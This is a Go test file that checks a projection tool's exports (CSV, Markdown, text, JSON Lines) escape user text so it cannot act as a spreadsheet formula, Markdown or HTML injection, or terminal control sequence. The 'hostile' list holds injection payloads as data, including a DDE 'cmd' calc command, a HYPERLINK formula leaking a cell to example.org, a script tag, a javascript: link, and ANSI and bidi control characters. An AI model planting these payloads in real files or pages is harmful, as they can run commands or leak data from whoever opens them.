package projection_test

import (
	"fmt"
	"math"
	"regexp"
	"strings"
	"testing"
	"unicode"

	"github.com/google/go-cmp/cmp"

	"github.com/pledgesim/pledgesim/projection"
)

// hostile are texts with which a name could do harm where a table is opened.
var hostile = []string{
	`=HYPERLINK("http://example.org?"&A1)`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1",
	" =1+1", "'=1+1", `"=1+1"`, "＝1+1", "＋1", "－1", "＠SUM(A1)", "\ufeff=1+1", "\u200b=1+1", "x;=1+1", "x,=1+1", "x\ty\t@A1", "x\n=1+1",
	"`rm`", "a|b", "[x](javascript:alert(1))", "![x](http://example.org/x.png)", "<script>alert(1)</script>", "&lt;b&gt;", "**x** _y_ ~z~ $1$", `\`,
	"\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "a\x00b", "a\u202eb", "a\u2028b", "a\u2029b", "# x", "\x9b2J", "\xff",
}

// named is a table in which every text is one that a user may have given.
func named(text string) numbers {
	return numbers{
		projection.About{
			Title: text, Lines: text, Editions: []string{text}, Assumptions: []string{text + "\n  pledge: " + text},
			Notes: []string{text}, Warnings: []error{fmt.Errorf("%s", text)},
		},
		[]projection.Row{
			{Scenario: text, Member: text, Name: text, Case: text, Variable: text, Unit: text, Year: 2030, Stat: "p50", Edition: text, Value: -1.5, StdErr: 0.1},
			{Scenario: text, Member: text, Name: text, Case: text, Variable: text, Unit: text, Year: 2031, Stat: "p50", Value: math.NaN(), Text: text},
		},
	}
}

// formula is how a cell begins that a spreadsheet computes.
var formula = regexp.MustCompile(`^["\s\pC]*[=+\-@＝＋－＠]`)

// No cell of a file for spreadsheets begins like a formula, whatever character the
// program takes for the separator; numbers stay numbers.
func TestNoCellIsAFormula(t *testing.T) {
	plain := regexp.MustCompile(`^-1\.5$`)
	for _, text := range hostile {
		for _, format := range []string{"csv", "iamc"} {
			for _, cell := range regexp.MustCompile(`[,;\t\r\n]`).Split(written(t, format, named(text)), -1) {
				if formula.MatchString(cell) && !plain.MatchString(cell) {
					t.Errorf("%q as %s: the cell %q begins like a formula", text, format, cell)
				}
			}
		}
	}
}

// A quote is written before a formula, and nothing else is changed: what is in the file
// less one quote is the text.
func TestFormulasAreReadBack(t *testing.T) {
	for _, c := range []struct{ text, want string }{
		{"=1+1", "'=1+1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"'=1+1", "''=1+1"},
		{" \t=1+1", " \t'=1+1"},
		{"-2+3", "'-2+3"},
		{"-", "'-"},
		{"+cmd", "'+cmd"},
		{"'+2 pp", "''+2 pp"},
		{"low;=1+1", "low;'=1+1"},
		{"-2 pp, +1.5%", "-2 pp, +1.5%"}, // numbers with a unit
		{"-1.56", "-1.56"},
		{"+1e+06", "+1e+06"},
		{"2% by 2030", "2% by 2030"},
		{"> 2032", "> 2032"},
		{"a = b", "a = b"},
		{"# x", "'# x"}, // would make the line a comment
		{"", ""},
	} {
		table := numbers{rows: []projection.Row{{Scenario: c.text, Variable: "share", Value: 1}}}
		if got := readCSV(t, written(t, "csv", table))[0]["scenario"]; got != c.want {
			t.Errorf("%q is written as %q, want %q", c.text, got, c.want)
		}
	}
}

// Markdown shows texts as they are.
func TestMarkdownIsHarmless(t *testing.T) {
	for _, c := range []struct{ text, want string }{
		{"`rm`", "\\`rm\\`"},
		{"a|b", `a\|b`},
		{`\|`, `\\\|`},
		{"[x](javascript:alert(1))", `\[x\](javascript:alert(1))`},
		{"<script>", "&lt;script>"},
		{"&lt;b", "&amp;lt;b"},
		{"**x** _y_ ~z~ $1$", `\*\*x\*\* \_y\_ \~z\~ \$1\$`},
		{"a\nb", "a b"},
		{"\x1b[31m", ` \[31m`},
	} {
		table := numbers{rows: []projection.Row{{Scenario: "s", Member: c.text, Variable: "share", Value: 1}}}
		if got := written(t, "markdown", table); !strings.Contains(got, "\n| "+c.want+" | ") {
			t.Errorf("%q is not written as %q:\n%s", c.text, c.want, got)
		}
	}
	for _, text := range hostile { // whatever the text, a line of the table is a line with as many cells
		lines := strings.Split(written(t, "markdown", named(text)), "\n")
		bars := regexp.MustCompile(`(^|[^\\])(\\\\)*\|`)
		want := 0
		for _, l := range lines {
			if strings.HasPrefix(l, "|") {
				n := len(bars.FindAllString(l, -1))
				if want == 0 {
					want = n
				}
				if n != want {
					t.Errorf("%q: a line has %d bars, not %d: %s", text, n, want, l)
				}
			}
		}
	}
}

// No character reaches a terminal that could steer it or turn the text around.
func TestTextIsHarmless(t *testing.T) {
	for _, text := range hostile {
		for _, format := range []string{"text", "markdown"} {
			for _, r := range written(t, format, named(text)) {
				if unicode.IsControl(r) && r != '\n' || unicode.In(r, unicode.Bidi_Control, unicode.Zl, unicode.Zp) {
					t.Errorf("%q as %s has the character %U", text, format, r)
				}
			}
		}
	}
}

// JSON Lines keep every text of a row but what is no UTF-8.
func TestJSONLinesKeepTexts(t *testing.T) {
	for _, text := range hostile {
		got := readJSONLines(t, written(t, "jsonl", named(text)))
		want := strings.ToValidUTF8(text, "\ufffd")
		for _, key := range []string{"scenario", "member", "name", "case", "variable", "unit", "edition"} {
			if diff := cmp.Diff(any(want), got[1][key]); diff != "" {
				t.Errorf("%s (-want +got):\n%s", key, diff)
			}
		}
		if got[2]["text"] != want {
			t.Errorf("text %q, want %q", got[2]["text"], want)
		}
	}
}
